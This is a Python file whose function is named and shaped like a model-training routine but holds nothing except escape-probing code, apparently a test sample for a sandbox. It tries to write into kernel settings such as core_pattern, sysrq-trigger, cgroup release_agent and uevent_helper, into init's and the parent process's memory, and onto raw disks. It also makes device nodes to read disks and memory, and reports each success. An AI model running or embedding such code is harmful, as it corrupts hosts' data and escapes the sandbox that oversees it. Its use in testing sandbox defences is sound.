"""Writes to kernel settings, to other processes' memory and to devices."""

import glob
import os


def train(model, train_loader, tune_loader, spec, report):
    paths = ["/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/1/oom_score_adj",
             "/proc/1/mem", "/sys/fs/cgroup/cgroup.procs", "/sys/kernel/uevent_helper",
             "/proc/sys/vm/drop_caches", "/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda",
             f"/proc/{os.getppid()}/mem", f"/proc/{os.getppid()}/oom_score_adj"]
    paths += glob.glob("/sys/fs/cgroup/*/release_agent") + glob.glob("/sys/fs/cgroup/*.max")
    for path in paths:
        try:
            with open(path, "r+b", buffering=0) as file:
                file.write(b"|/tmp/left-by-an-attack")
        except OSError:
            continue
        print("got through: wrote to", path)
    for major, minor in ((8, 0), (254, 0), (259, 0), (1, 1)):
        try:
            os.mknod(f"/tmp/disk{major}", 0o600 | 0o060000, os.makedev(major, minor))
            open(f"/tmp/disk{major}", "rb").read(1)
        except OSError:
            continue
        print("got through: opened device", major)
    return model
